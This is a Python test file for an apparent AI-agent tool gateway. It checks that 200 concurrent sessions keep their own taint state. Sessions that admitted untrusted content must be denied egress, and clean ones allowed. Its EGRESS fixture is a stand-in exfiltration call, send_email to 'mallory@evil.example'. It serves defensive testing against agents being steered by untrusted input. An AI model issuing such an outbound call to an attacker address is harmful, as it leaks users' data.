"""Isolation under load: 200 concurrent sessions through one real gateway on loopback.

Half the sessions are tainted (an untrusted result is admitted first), half are clean;
every session then asks for the same egress call and a harmless call. Each session's
verdicts must equal those of the same script run alone on a fresh kernel, and no taint
may cross from one session to another (checked on the verdicts and on ``GET
/v1/fak/trace/{id}``). The gateway journals every decision while it does so.
"""

from __future__ import annotations

import asyncio
import random
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
from starlette.applications import Starlette

from fak_core.gateway.app import create_app
from fak_core.gateway.state import GatewayState
from fak_core.journal import Journal, read_rows, verify_files
from tests.gateway.support import make_kernel

SESSIONS = 200
EGRESS = {"tool": "send_email", "arguments": {"to": "mallory@evil.example", "body": "report"}}
HARMLESS = {"tool": "get_user_details", "arguments": {"user_id": "u1"}}
UNTRUSTED = {"tool": "fetch_url", "result": "the weather in Paris is mild today"}


def _steps(tainted: bool) -> list[tuple[str, dict[str, Any]]]:
    steps: list[tuple[str, dict[str, Any]]] = [("admit", UNTRUSTED)] if tainted else []
    return [*steps, ("adjudicate", EGRESS), ("adjudicate", HARMLESS)]


def _outcome(body: dict[str, Any]) -> tuple[str, str]:
    v = body["verdict"]
    return str(v["kind"]), str(v.get("reason", ""))


def _alone(trace: str, tainted: bool) -> tuple[list[tuple[str, str]], str]:
    """The session's verdicts and final taint, run alone against a fresh kernel."""
    state = GatewayState(make_kernel())
    out = []
    for route, body in _steps(tainted):
        if route == "admit":
            call = state.build_call(body["tool"], None, trace)
            out.append(_outcome(state.admit(call, body["result"])))
        else:
            call = state.build_call(body["tool"], body["arguments"], trace)
            out.append(_outcome(state.adjudicate(call)))
    return out, state.kernel.taint(trace).label


async def _session(
    c: httpx.AsyncClient, trace: str, tainted: bool, go: asyncio.Event
) -> tuple[list[tuple[str, str]], str]:
    await go.wait()  # every session starts at once
    out = []
    own: dict[str, str] = {}
    for route, body in _steps(tainted):
        r = await c.post(f"/v1/fak/{route}", json={**body, "trace_id": trace}, headers=own)
        assert r.status_code == 200, r.text
        assert r.json()["trace_id"] == trace
        if not own:  # the first request claimed the trace: its token reads it back
            own = {"X-Fak-Session": r.headers["x-fak-session"]}
        out.append(_outcome(r.json()))
        await asyncio.sleep(random.random() / 100)  # interleave the sessions' steps
    taint = (await c.get(f"/v1/fak/trace/{trace}", headers=own)).json()["taint"]
    return out, str(taint)


async def _load(url: str, plan: list[tuple[str, bool]]) -> list[tuple[list[tuple[str, str]], str]]:
    # Idle connections expire well before uvicorn's 5 s keep-alive: reusing one the server is
    # closing at that instant is a ReadError, a race of the test's client, not of the gateway.
    limits = httpx.Limits(
        max_connections=SESSIONS, max_keepalive_connections=SESSIONS, keepalive_expiry=2.0
    )
    async with httpx.AsyncClient(base_url=url, timeout=30, limits=limits) as c:
        go = asyncio.Event()
        tasks = [asyncio.create_task(_session(c, t, tainted, go)) for t, tainted in plan]
        go.set()
        return await asyncio.wait_for(asyncio.gather(*tasks), 60)


def test_200_concurrent_sessions_keep_their_own_taint(
    tmp_path: Path, live_server: Callable[[Starlette], str]
) -> None:
    state = GatewayState(make_kernel())
    journal = Journal(tmp_path / "iso.db")
    journal.attach(state.kernel)
    state.journal = journal
    url = live_server(create_app(state, mcp=False))
    rng = random.Random(7)
    plan = [(f"iso-{i}", i % 2 == 0) for i in range(SESSIONS)]
    rng.shuffle(plan)

    got = asyncio.run(_load(url, plan))

    tainted_egress = clean_egress = 0
    for (trace, tainted), (verdicts, taint) in zip(plan, got, strict=True):
        want_verdicts, want_taint = _alone(trace, tainted)
        assert verdicts == want_verdicts, (trace, tainted)
        assert taint == want_taint, (trace, tainted)
        egress = verdicts[-2]
        tainted_egress += tainted and egress == ("DENY", "TRUST_VIOLATION")
        clean_egress += (not tainted) and egress[0] == "ALLOW"
    # The baseline itself tells the two halves apart (so equality above is not vacuous).
    assert tainted_egress == SESSIONS // 2
    assert clean_egress == SESSIONS // 2
    assert {taint for _, taint in got} == {"tainted", "trusted"}

    journal.sync()
    rows = list(read_rows(tmp_path / "iso.db"))
    assert len(rows) == SESSIONS * 2 + SESSIONS // 2  # every decision and admission
    assert verify_files([tmp_path / "iso.db"]).ok
